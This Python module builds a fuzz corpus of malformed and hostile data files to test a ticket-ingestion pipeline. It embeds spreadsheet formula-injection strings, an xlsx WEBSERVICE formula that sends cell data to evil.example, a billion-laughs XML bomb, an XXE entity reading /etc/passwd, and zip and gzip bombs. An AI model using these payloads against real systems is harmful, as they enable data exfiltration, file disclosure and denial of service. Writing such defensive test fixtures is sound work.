"""A corpus of hostile files with what must become of each record; for the tests, and for `make fuzz`."""

import gzip
import io
import json
import random
import sqlite3
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, BinaryIO
from xml.sax.saxutils import escape

COLUMNS = ("id", "at", "channel", "state", "phone", "text")
CHANNELS = ("call", "sms", "web_form", "social")
STATES = ("Lagos", "Kano", "Rivers", "Oyo", "FCT")
TEXTS = (
    "No network since morning, I cannot call anybody",
    "Una don chop my data again",
    "Card no dey load; *311# says error",
    '=HYPERLINK("http://evil.example","refund")',
    "+cmd|' /C calc'!A0",
    "Abeg help me ọjọ́ méta 😡",
    "Charged twice for one call",
)
DATES = {  # ten shapes of one time: how it is written, how it is declared
    "iso": lambda t: t.strftime("%Y-%m-%dT%H:%M:%SZ"),
    "%d/%m/%Y %H:%M": lambda t: t.strftime("%d/%m/%Y %H:%M"),
    "%d-%b-%Y %H:%M:%S": lambda t: t.strftime("%d-%b-%Y %H:%M:%S"),
    "%d %B %Y": lambda t: t.strftime("%d %B %Y"),
    "%B %d, %Y %I:%M %p": lambda t: t.strftime("%B %d, %Y %I:%M %p"),
    "%Y.%m.%d %H.%M": lambda t: t.strftime("%Y.%m.%d %H.%M"),
    "%a %b %d %H:%M:%S %z %Y": lambda t: t.strftime("%a %b %d %H:%M:%S +0000 %Y"),
    "%Y/%m": lambda t: t.strftime("%Y/%m"),
    "%Hh%M %d.%m.%Y": lambda t: t.strftime("%Hh%M %d.%m.%Y"),
    "%d.%m.%y": lambda t: t.strftime("%d.%m.%y"),
}
SPACING = 40  # records between two faults, so that one cannot be taken for a part of another


@dataclass
class Expected:
    """What must come out of one file."""

    good: int = 0
    faults: Counter[str] = field(default_factory=Counter)

    @property
    def records(self) -> int:
        return self.good + self.faults.total()


@dataclass
class Maker:
    """Makes records, and the odd ones among them at a steady rate."""

    rng: random.Random
    n: int = 0

    def record(self) -> dict[str, str]:
        self.n += 1
        at = datetime(2026, 1, 1, tzinfo=UTC) + timedelta(minutes=self.n % 400_000, seconds=self.n % 60)
        shape = list(DATES)[self.n % len(DATES)]
        when = "unknown" if self.n % 97 == 0 else DATES[shape](at)
        text = f"{TEXTS[self.n % len(TEXTS)]} (ticket {self.n})"
        phone = f"0803{self.rng.randrange(10**7):07d}"
        return dict(
            zip(COLUMNS, (f"T{self.n:08d}", when, CHANNELS[self.n % 4], STATES[self.n % 5], phone, text), strict=True)
        )

    def stream(self, n: int, odd: tuple[str, ...]) -> Iterator[tuple[dict[str, str], str]]:
        """n records, each with what is to be wrong with it ("" = nothing)."""
        for i in range(n):
            kind = odd[i // SPACING % len(odd)] if i % SPACING == SPACING // 2 else ""
            yield self.record(), kind


def long_text(out: BinaryIO, size: int) -> None:
    """Write `size` bytes of text without a line end."""
    piece = b"A very long line. " * 5_000
    while size > 0:
        out.write(piece[:size])
        size -= len(piece)


def quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\n') else value


def write_csv(out: BinaryIO, maker: Maker, n: int, long_line: int) -> Expected:
    """CSV with torn and split records, stray quotes, foreign bytes, NULs, empty rows, one endless line."""
    done = Expected()
    out.write(",".join(COLUMNS).encode() + b"\n")
    odd = ("torn", "split", "bytes", "nul", "many", "quote", "empty", "inner")
    codes = dict(
        torn="torn_record",
        bytes="bad_encoding",
        nul="nul_byte",
        many="too_many_fields",
        quote="torn_record",
        empty="empty_record",
    )
    for r, kind in maker.stream(n, odd):
        plain = [quoted(v) for v in r.values()]
        line = ",".join(plain).encode()
        match kind:
            case "torn":
                line = ",".join(plain[:3]).encode()
            case "split":
                line = ",".join([*plain[:3], "La\ngos", plain[4], "no network"]).encode()
            case "bytes":
                line = ",".join([*plain[:5], "caf"]).encode() + b"\xe9 closed"
            case "nul":
                line = ",".join(plain[:5]).encode() + b"," + bytes(16)
            case "many":
                line += b",more,and more"
            case "quote":
                line = ",".join([*plain[:4], '"0803', "no network"]).encode()
            case "empty":
                line = b",,,,,"
            case "inner":
                line = ",".join([*plain[:5], '"he said "wait" to me"']).encode()
        out.write(line + b"\n")
        done.faults[codes.get(kind, "")] += kind in codes
        done.good += kind not in codes
    if long_line:
        out.write(b"T0,now,call,Lagos,0,")
        long_text(out, long_line)
        out.write(b"\n" + ",".join(map(quoted, maker.record().values())).encode())
        done.faults["too_long"] += 1
        done.good += 1
    return done


def odd_object(r: dict[str, str], kind: str) -> bytes:
    """A record as JSON, with something wrong."""
    line = json.dumps(r, ensure_ascii=False).encode()
    match kind:
        case "torn":
            return line[: line.index(b'"phone": "') + 13]
        case "bytes":
            return line[:-2] + b'caf\xe9"}'
        case "nul":
            return line[:-2] + bytes(9) + b'"}'
        case "deep":
            return line[:-1] + b', "deep": ' + b'{"a":' * 5_000 + b"1" + b"}" * 5_000 + b"}"
        case "list":
            return line[:-1] + b', "deep": ' + b"[" * 5_000 + b"]" * 5_000 + b"}"
        case "nan":
            return line[:-1] + b', "score": NaN}'
        case "half":
            return line[:-2] + b'\\ud83d"}'
        case "comma":
            return line[:-1] + b",}"
        case "nested":
            return line[:-1] + b', "where": {"lga": "Ikeja", "points": [{"id": "x", "at": [6.6, 3.35]}]}, "fee": 12.50}'
    return line


JSON_ODD = ("torn", "bytes", "nul", "deep", "list", "nan", "half", "comma", "nested")
JSON_CODES = dict(
    torn="torn_record",
    bytes="bad_encoding",
    nul="nul_byte",
    deep="too_deep",
    list="too_deep",
    comma="bad_json",
    number="bad_json",
)


def write_jsonl(out: BinaryIO, maker: Maker, n: int, long_line: int) -> Expected:
    """JSON Lines: cut, foreign bytes, NULs, 5,000 levels, numbers for objects, texts on two lines, one endless line."""
    done = Expected()
    for r, kind in maker.stream(n, (*JSON_ODD, "split", "number")):
        line = odd_object(r, kind)
        if kind == "split":
            line = line.replace(b"(ticket", b"\n(ticket")
        if kind == "number":
            line = b"12345"
        out.write(line + b"\n")
        done.faults[JSON_CODES.get(kind, "")] += kind in JSON_CODES
        done.good += kind not in JSON_CODES
    if long_line:
        out.write(b'{"id": "T0", "text": "')
        long_text(out, long_line)
        out.write(b'"}\n' + json.dumps(maker.record()).encode())
        done.faults["too_long"] += 1
        done.good += 1
    return done


def write_json(out: BinaryIO, maker: Maker, n: int, long_line: int) -> Expected:
    """An array under a path, with the same faults, and cut at its end."""
    done = Expected()
    out.write(b'{"help": "the [array] is below", "result": {"total": "?", "rows": [\n')
    for i, (r, kind) in enumerate(maker.stream(n, JSON_ODD)):
        out.write((b",\n" if i else b"") + odd_object(r, kind))
        done.faults[JSON_CODES.get(kind, "")] += kind in JSON_CODES
        done.good += kind not in JSON_CODES
    if long_line:
        out.write(b',\n{"id": "T0", "text": "')
        long_text(out, long_line)
        out.write(b'"},\n' + json.dumps(maker.record()).encode())
        done.faults["too_long"] += 1
        done.good += 1
    out.write(b',\n{"id": "T1", "text": "cut he')
    done.faults["torn_record"] += 1
    return done


def write_xml(out: BinaryIO, maker: Maker, n: int, long_line: int) -> Expected:
    """XML with `&` unescaped, elements left open, foreign bytes, NULs, 5,000 levels, one endless text."""
    done = Expected()
    out.write(b'<?xml version="1.0" encoding="UTF-8"?>\n<export><day n="1">\n')
    codes = dict(
        amp="bad_xml",
        torn="torn_record",
        bytes="bad_encoding",
        nul="nul_byte",
        deep="too_deep",
        cut="bad_xml",
        empty="empty_record",
    )
    for r, kind in maker.stream(n, tuple(codes)):
        body = "".join(f"<{k}>{escape(v)}</{k}>" for k, v in r.items() if k != "id").encode()
        line = f'<ticket id="{r["id"]}">'.encode() + body + b"</ticket>"
        match kind:
            case "amp":
                line = line.replace(b"(ticket", b"R&D (ticket")
            case "torn":
                line = line[: line.index(b"<text>") + 12]
            case "bytes":
                line = line.replace(b"(ticket", b"caf\xe9 (ticket")
            case "nul":
                line = line.replace(b"(ticket", bytes(9) + b"(ticket")
            case "deep":
                line = line.replace(b"</ticket>", b"<a>" * 5_000 + b"</a>" * 5_000 + b"</ticket>")
            case "cut":
                line = line[:15]
            case "empty":
                line = b"<ticket/>"
        out.write(line + b"\n")
        done.faults[codes.get(kind, "")] += kind in codes
        done.good += kind not in codes
    if long_line:
        out.write(b'<ticket id="T0"><text>')
        long_text(out, long_line)
        out.write(b"</text></ticket>\n" + f'<ticket id="{maker.record()["id"]}"><text>last</text></ticket>\n'.encode())
        done.faults["too_long"] += 1
        done.good += 1
    out.write(b"</day></export>\n")
    return done


def write_log(out: BinaryIO, maker: Maker, n: int, long_line: int) -> Expected:
    """Log lines, some of several physical lines, with foreign bytes and NULs, one endless line."""
    done = Expected()
    codes = dict(bytes="bad_encoding", nul="nul_byte")
    for r, kind in maker.stream(n, ("bytes", "more", "nul")):
        text = r["text"].encode()
        text += {"bytes": b" caf\xe9", "nul": bytes(9), "more": b"\n  and again\n  and again"}.get(kind, b"")
        out.write(f"[{r['at']}] {r['id']} {r['channel']}/{r['state']} {r['phone']}: ".encode() + text + b"\n")
        done.faults[codes.get(kind, "")] += kind in codes
        done.good += kind not in codes
    if long_line:
        long_text(out, long_line)
        out.write(b"\n[2026-01-01T00:00:00Z] T0 call/Kano 0803: last\n")
        done.faults["too_long"] += 1
        done.good += 1
    return done


def write_dump(out: BinaryIO, maker: Maker, n: int, long_line: int) -> Expected:
    """A MySQL dump with cut rows, foreign bytes and rows of the wrong width."""
    done = Expected()
    out.write(
        b"-- MySQL dump 10.13\nCREATE TABLE `ticket` (`"
        + b"` text, `".join(c.encode() for c in COLUMNS)
        + b"` text);\n"
    )
    out.write(b"INSERT INTO `staff` VALUES (1,'not; (this)');\n")
    codes = dict(torn="torn_record", bytes="bad_encoding", many="too_many_fields", few="torn_record")
    for i, (r, kind) in enumerate(maker.stream(n, (*codes, "null"))):
        values = ["'" + v.replace("\\", "\\\\").replace("'", "\\'") + "'" for v in r.values()]
        if kind in ("many", "few", "null"):
            values = {"many": [*values, "1"], "few": values[:2], "null": [*values[:5], "NULL"]}[kind]
        row = ("(" + ",".join(values) + ")").encode()
        if kind == "torn":
            row = row[:40]
        if kind == "bytes":
            row = row[:-2] + b"\xe9')"
        start = b"INSERT INTO `ticket` VALUES\n" if i % 1000 == 0 else b""
        out.write(start + row + (b";\n" if i % 1000 == 999 or i == n - 1 else b",\n"))
        done.faults[codes.get(kind, "")] += kind in codes
        done.good += kind not in codes
    return done


def write_sqlite(path: Path, maker: Maker, n: int) -> Expected:
    """An SQLite file with texts that are no UTF-8."""
    done = Expected()
    with closing(sqlite3.connect(path)) as con:
        con.execute(f"CREATE TABLE ticket ({', '.join(COLUMNS)})")
        for r, kind in maker.stream(n, ("bytes", "nul")):
            row = list(r.values())
            con.execute(
                f"INSERT INTO ticket VALUES (?, ?, ?, ?, ?, {'CAST(? AS TEXT)' if kind else '?'})",
                [*row[:5], {"bytes": b"caf\xe9", "nul": b"a\0b"}.get(kind, row[5])],
            )
            done.faults[dict(bytes="bad_encoding", nul="nul_byte").get(kind, "")] += bool(kind)
            done.good += not kind
        con.commit()
    return done


def write_xlsx(path: Path, maker: Maker, n: int) -> Expected:
    """A workbook with formulas, real dates, empty rows."""
    import openpyxl

    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("tickets")
    sheet.append(COLUMNS)
    for r, kind in maker.stream(n, ("formula", "empty", "date")):
        row: list[Any] = list(r.values())
        if kind == "formula":
            row[5] = '=WEBSERVICE("http://evil.example/?"&A2)'
        if kind == "date":
            row[1] = datetime(2026, 4, 22, 15, 30, 7)
        sheet.append(row)
        if kind == "empty":
            sheet.append([None] * 6)
    book.save(path)
    return Expected(good=n)


def zeros(size: int) -> Iterator[bytes]:
    while size > 0:
        yield bytes(min(size, 2**20))
        size -= 2**20


def write_zip(path: Path, maker: Maker, n: int) -> Expected:
    """A zip with a CSV, a gzipped one, a zip, a damaged one, and one that is packed too deep."""
    done = Expected()

    def part(k: int) -> bytes:
        out = io.BytesIO()
        made = write_csv(out, maker, k, 0)
        done.good += made.good
        done.faults.update(made.faults)
        return out.getvalue()

    def packed(name: str, data: bytes) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr(name, data)
        return out.getvalue()

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mon.csv", part(n // 3))
        z.writestr("tue.csv.gz", gzip.compress(part(n // 3)))
        z.writestr("wed.zip", packed("wed.csv", part(n // 3)))
        z.writestr("thu.zip", packed("thu.zip", packed("thu.csv", b"id\n1\n")))
        z.writestr("fri.csv.gz", gzip.compress(b"id,at,channel,state,phone,text\n")[:-5])
        z.writestr("README.txt", "thank you")
    done.faults.update(["unsafe_archive", "bad_archive"])
    return done


def write_zip_bomb(path: Path, size: int) -> Expected:
    """Zeros that unpack to a thousand times their size."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z, z.open("bomb.csv", "w", force_zip64=True) as f:
        for piece in zeros(size):
            f.write(piece)
    return Expected(faults=Counter(["unsafe_archive"]))


def write_gzip_bomb(path: Path, size: int) -> Expected:
    """The same as gzip, which does not say beforehand how much it holds: what is read of it is one endless line."""
    with gzip.open(path, "wb") as f:
        f.write(b"id,text\n")
        for piece in zeros(size):
            f.write(piece)
    return Expected(faults=Counter(["too_long", "unsafe_archive"]))


LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE export [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><export><ticket id="T0"><text>&c;</text></ticket></export>"""
FETCH = b"""<!DOCTYPE export [<!ENTITY a SYSTEM "file:///etc/passwd">]>
<export><ticket id="T1"><text>&a;</text></ticket></export>"""

LOG = r"\[(?P<at>[^\]]*)\] (?P<id>T\d+) (?P<channel>\w+)/(?P<state>\w+) (?P<phone>\d+): (?P<text>.*)"


def declaration(name: str, path: str, fmt: dict[str, Any]) -> dict[str, Any]:
    """A source's declaration, as it would stand in TOML."""
    key = "@id" if fmt["kind"] == "xml" else "id"
    fields = {
        "source_record_id": key,
        "received_at": "at",
        "channel": "channel",
        "state": "state",
        "phone": "phone",
        "text": "text",
    }
    return dict(
        name=name,
        path=path,
        system="fuzz",
        country="NG",
        format=fmt,
        fields=fields,
        time=dict(zone="Africa/Lagos", formats={"received_at": list(DATES)}),
        personal=dict(fields=["phone"]),
    )


Writer = Callable[[BinaryIO, Maker, int, int], Expected]
STREAMS: dict[str, tuple[Writer, str, float, dict[str, Any]]] = {  # writer, file, share of the records, format
    "fuzz_csv": (write_csv, "calls.csv", 0.3, {"kind": "csv"}),
    "fuzz_jsonl": (write_jsonl, "app.jsonl", 0.2, {"kind": "jsonl"}),
    "fuzz_json": (write_json, "portal.json", 0.1, {"kind": "json", "records": "result.rows"}),
    "fuzz_xml": (write_xml, "desk.xml", 0.15, {"kind": "xml", "records": "ticket"}),
    "fuzz_log": (write_log, "chat.log", 0.1, {"kind": "log", "pattern": LOG, "continued": True}),
    "fuzz_dump": (write_dump, "crm.sql", 0.05, {"kind": "sqldump", "records": "ticket"}),
}


def make_corpus(
    folder: Path, records: int = 6_000, seed: int = 7, long_line: int = 3_000_000, bomb: int = 100_000_000
) -> dict[str, Any]:
    """Write hostile files of about `records` records in all.

    `long_line`: bytes of the one endless line in each text file; `bomb`: bytes that the archives of zeros unpack to.
    Gives {"sources": {name: declaration}, "files": {path: Expected}, "records": how many come out}.
    """
    folder.mkdir(parents=True, exist_ok=True)
    maker, files, sources = Maker(random.Random(seed)), {}, {}
    for name, (write, file, share, fmt) in STREAMS.items():
        with open(folder / file, "wb") as out:
            files[file] = write(out, maker, round(records * share), long_line)
        sources[name] = declaration(name, file, fmt)
    few = max(SPACING * 9, round(records * 0.1 / 3))
    others: dict[str, tuple[str, dict[str, Any], Callable[[Path], Expected]]] = {
        "fuzz_sqlite": ("form.db", {"kind": "sqlite", "records": "ticket"}, lambda p: write_sqlite(p, maker, few)),
        "fuzz_xlsx": ("walk_in.xlsx", {"kind": "xlsx"}, lambda p: write_xlsx(p, maker, min(few, 20_000))),
        "fuzz_zip": ("week.zip", {"kind": "csv"}, lambda p: write_zip(p, maker, few)),
        "fuzz_bomb": ("bomb.zip", {"kind": "csv"}, lambda p: write_zip_bomb(p, bomb)),
        "fuzz_gzip_bomb": ("bomb.csv.gz", {"kind": "csv"}, lambda p: write_gzip_bomb(p, bomb)),
    }
    for name, (file, fmt, make) in others.items():
        (folder / file).unlink(missing_ok=True)
        files[file] = make(folder / file)
        sources[name] = declaration(name, file, fmt)
    for name, file, data in (("fuzz_laughs", "laughs.xml", LAUGHS), ("fuzz_fetch", "fetch.xml", FETCH)):
        (folder / file).write_bytes(data)
        files[file] = Expected(faults=Counter(["unsafe_xml"]))
        sources[name] = declaration(name, file, {"kind": "xml", "records": "ticket"})
    whole = (folder / "walk_in.xlsx").read_bytes()
    (folder / "cut.xlsx").write_bytes(whole[: len(whole) // 2])
    files["cut.xlsx"], sources["fuzz_cut"] = (
        Expected(faults=Counter(["bad_archive"])),
        declaration("fuzz_cut", "cut.xlsx", {"kind": "xlsx"}),
    )
    for expected in files.values():
        del expected.faults[""]
    return {"sources": sources, "files": files, "records": sum(e.records for e in files.values())}
